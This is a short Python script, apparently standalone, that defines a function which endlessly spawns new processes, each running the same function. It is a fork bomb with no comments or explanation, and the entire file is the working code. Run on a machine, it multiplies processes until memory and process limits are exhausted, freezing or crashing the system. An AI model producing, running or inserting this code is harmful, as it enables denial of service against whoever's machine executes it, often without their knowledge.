import multiprocessing

def boom():
    while True:
        multiprocessing.Process(target=boom).start()

if __name__ == "__main__":
    boom()
